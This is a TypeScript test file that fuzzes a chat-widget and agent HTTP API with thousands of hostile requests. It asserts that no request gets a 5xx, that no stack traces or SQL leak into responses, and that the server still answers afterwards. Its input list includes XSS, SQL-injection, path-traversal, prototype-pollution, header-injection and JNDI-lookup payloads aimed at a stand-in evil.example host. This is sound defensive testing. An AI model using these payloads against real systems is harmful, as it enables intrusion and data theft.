// Every route, every field, given what an attacker or a broken client sends: never a 5xx, always
// the documented error naming a field, nothing internal in the answer, and the server still
// answering afterwards. Over real HTTP, on each database. The count is in the test's name, so
// `npm test` prints how many hostile requests it tried.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hashPassword } from '../../src/agents/password.js';
import { createToken } from '../../src/db/agent-credentials.js';
import { addAgent } from '../../src/db/agents.js';
import { upsertWidget } from '../../src/db/widgets.js';
import { describeApi } from '../support/api.js';
import { docsWidget } from '../support/fixtures.js';

/** Values of every JSON type and the strings that break parsers, databases, terminals and pages. */
const HOSTILE_VALUES: unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  [],
  ['a'],
  {},
  { nested: { deeper: [1, { x: 'y' }] } },
  JSON.parse('{"__proto__": {"polluted": true}}'),
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udc00',
  '\u202e\u2066reversed',
  '\u001b[2J\u001b]52;c;aGk=\u0007',
  'line\r\nX-Injected: 1',
  'a'.repeat(5000),
  '😀'.repeat(3000),
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "'; drop table widgets; --",
  '" or 1=1 --',
  '../../../etc/passwd',
  '%00%2e%2e%2f',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  'javascript:alert(1)',
  '00000000-0000-4000-8000-000000000000',
  'not-a-uuid',
  '2026-02-30T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '1',
];

type Case = { method: string; path: string; body?: unknown; raw?: string; headers?: Record<string, string> };

/** Stands for a real agent's `Authorization` header, made once the database is seeded. */
const AGENT = 'Bearer <agent token>';
const AGENT_CONVERSATION = '/api/agent/conversations/00000000-0000-4000-8000-000000000000';

/** The agent API's routes with a body: signing in, and what an agent does (with an agent's token). */
const AGENT_BODY_ROUTES: [string, Record<string, unknown>, Record<string, string>][] = [
  ['/api/agent/session', { email: 'ana@team.example', password: 'correct horse battery' }, {}],
  [`${AGENT_CONVERSATION}/messages`, { content: 'Hello', clientMessageId: 'c1' }, { Authorization: AGENT }],
  [`${AGENT_CONVERSATION}/notes`, { content: 'A note' }, { Authorization: AGENT }],
  [`${AGENT_CONVERSATION}/assign`, { agentId: null }, { Authorization: AGENT }],
  [`${AGENT_CONVERSATION}/status`, { status: 'closed' }, { Authorization: AGENT }],
];

const BODY_ROUTES: [string, Record<string, unknown>][] = [
  ['/api/widget/chat', { widgetId: 'docs', message: 'How does dark mode work?' }],
  ['/api/widget/visitors', { widgetId: 'docs' }],
  ['/api/widget/conversations', { widgetId: 'docs' }],
  ['/api/widget/contact', { widgetId: 'docs', name: 'Ana', email: 'ana@example.com', customData: { plan: 'pro' } }],
  ['/api/widget/feedback', { widgetId: 'docs', messageId: 'm', type: 'positive', comment: 'ok' }],
  [
    '/api/widget/escalate',
    { widgetId: 'docs', conversationId: '00000000-0000-4000-8000-000000000000', email: 'a@b.co', message: 'hi' },
  ],
];
const EXTRA_FIELDS = ['visitorId', 'conversationId', 'clientMessageId', 'pageUrl', 'customData', 'constructor'];

/** `value` for a URL; half a surrogate pair has no UTF-8, so it goes as the bytes it would be (invalid UTF-8). */
function inUrl(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

function cases(): Case[] {
  const list: Case[] = [];
  for (const [path, valid] of BODY_ROUTES) {
    for (const field of [...Object.keys(valid), ...EXTRA_FIELDS]) {
      for (const value of HOSTILE_VALUES) list.push({ method: 'POST', path, body: { ...valid, [field]: value } });
    }
    for (const body of [null, [], 'text', 42, [valid]]) list.push({ method: 'POST', path, body });
    for (const raw of ['{', '{"widgetId": "docs",}', '\u0000', '{"a":' + '['.repeat(10_000), '']) {
      list.push({ method: 'POST', path, raw });
    }
    list.push({ method: 'POST', path, raw: JSON.stringify(valid), headers: { 'Content-Type': 'text/plain' } });
    for (const header of ['Idempotency-Key', 'X-Visitor-Token']) {
      for (const value of ['', 'x'.repeat(4000), 'v_AAAAAAAAAAAAAAAAAAAAAA.forged', '..%00']) {
        list.push({ method: 'POST', path, body: valid, headers: { [header]: value } });
      }
    }
  }
  for (const [path, valid, headers] of AGENT_BODY_ROUTES) {
    for (const field of [...Object.keys(valid), 'constructor', '__proto__']) {
      for (const value of HOSTILE_VALUES)
        list.push({ method: 'POST', path, body: { ...valid, [field]: value }, headers });
    }
    for (const body of [null, [], 'text', 42, [valid]]) list.push({ method: 'POST', path, body, headers });
    for (const raw of ['{', '\u0000', '{"a":' + '['.repeat(10_000), ''])
      list.push({ method: 'POST', path, raw, headers });
  }
  const queryValues = HOSTILE_VALUES.filter((v): v is string => typeof v === 'string');
  const agent = { Authorization: AGENT };
  for (const value of queryValues) {
    const q = inUrl(value);
    for (const name of ['widgetId', 'status', 'assignee', 'q', 'cursor', 'limit']) {
      list.push({ method: 'GET', path: `/api/agent/conversations?${name}=${q}`, headers: agent });
    }
    list.push({ method: 'GET', path: `/api/agent/conversations/${q}`, headers: agent });
    // A valid id would open the stream (and this request would never end): only the others.
    if (!/^\d{1,18}$/.test(value) && /^[\x20-\x7e\xa0-\xff]*$/.test(value)) {
      list.push({ method: 'GET', path: '/api/agent/events', headers: { ...agent, 'Last-Event-ID': value } });
    }
    list.push({
      method: 'POST',
      path: `/api/agent/conversations/${q}/status`,
      body: { status: 'closed' },
      headers: agent,
    });
    // What fetch can send as a header at all: no control characters, nothing beyond Latin-1.
    if (/^[\x20-\x7e\xa0-\xff]*$/.test(value)) {
      for (const header of ['Authorization', 'Cookie']) {
        list.push({ method: 'GET', path: '/api/agent/conversations', headers: { [header]: value } });
      }
    }
  }
  const conversation = '/api/widget/conversations/00000000-0000-4000-8000-000000000000';
  for (const value of queryValues) {
    const q = inUrl(value);
    list.push({ method: 'GET', path: `${conversation}/messages?widgetId=docs&after=${q}` });
    list.push({ method: 'GET', path: `${conversation}?widgetId=${q}` });
    list.push({ method: 'GET', path: `${conversation}/events?widgetId=${q}` });
    list.push({ method: 'GET', path: `${conversation}/events?widgetId=docs`, headers: { 'Last-Event-ID': q } });
    list.push({ method: 'GET', path: `/api/widget/conversations/${q}?widgetId=docs` });
    list.push({ method: 'GET', path: `/api/widget/${q}/prelude` });
    list.push({ method: 'GET', path: `/api/widget/docs/me?visitorId=${q}` });
  }
  list.push({ method: 'GET', path: `${conversation}/messages?widgetId=docs&widgetId=other&after=1&after=2` });
  list.push({ method: 'GET', path: `/api/widget/${'w'.repeat(5000)}/prelude` });
  return list;
}

const CASES = cases();

/** Words that would mean an answer tells more than the documented error: a stack, SQL, a driver. */
const INTERNALS =
  /\bat [\w.]+ \(|node_modules|\.ts:\d|\.js:\d|\bselect\b.*\bfrom\b|syntax error|relation "|violates|pglite|postgres/i;

describeApi(
  'hostile input',
  {
    seed: async (db) => {
      await docsWidget(db);
      // So many requests from one address would meet the write limits: they are not what is tested here.
      await upsertWidget(db, {
        id: 'docs',
        rate_limit_per_minute: 100_000,
        daily_quota: 1_000_000,
        client_quota_share: 1,
      });
    },
  },
  (api) => {
    test(`${CASES.length} hostile requests over every route: none answered 5xx or with anything internal`, async () => {
      const { agent } = await addAgent(api.db, {
        email: 'ana@team.example',
        widgetId: 'docs',
        passwordHash: await hashPassword('correct horse battery'),
      });
      const token = `Bearer ${await createToken(api.db, agent.id)}`;
      const statuses = new Map<number, number>();
      for (const c of CASES) {
        const headers = Object.fromEntries(
          Object.entries(c.headers ?? {}).map(([name, value]) => [name, value === AGENT ? token : value]),
        );
        const response = await fetch(api.base + c.path, {
          method: c.method,
          headers: {
            ...(c.body !== undefined || c.raw !== undefined ? { 'Content-Type': 'application/json' } : {}),
            ...headers,
          },
          body: c.raw ?? (c.body === undefined ? undefined : JSON.stringify(c.body)),
        });
        const text = await response.text();
        const what = `${c.method} ${c.path.slice(0, 120)} ${JSON.stringify(c.body ?? c.raw ?? '').slice(0, 120)}`;
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
        // 429: the limits at work; 431: Node refused headers (a URL) over 16 KB before the app saw them.
        if (response.status === 429 || response.status === 431) continue;
        assert.ok(response.status < 500, `${response.status} for ${what}: ${text.slice(0, 200)}`);
        assert.doesNotMatch(text, INTERNALS, what);
        if (response.status >= 400) {
          let error: { code?: unknown; message?: unknown } | undefined;
          assert.doesNotThrow(
            () => (error = (JSON.parse(text) as { error?: typeof error }).error),
            `${response.status} ${what}: not JSON`,
          );
          assert.equal(typeof error?.code, 'string', what);
          assert.equal(typeof error?.message, 'string', what);
        }
      }
      assert.ok(!statuses.has(500), JSON.stringify([...statuses]));
      assert.deepEqual(
        api.logged.filter((line) => /error/i.test(line)),
        [],
        'nothing reached the operator as a server error',
      );
      const after = await api.chat({ message: 'How does dark mode work?' });
      assert.equal(after.status, 200, 'the server still answers');
    });
  },
);
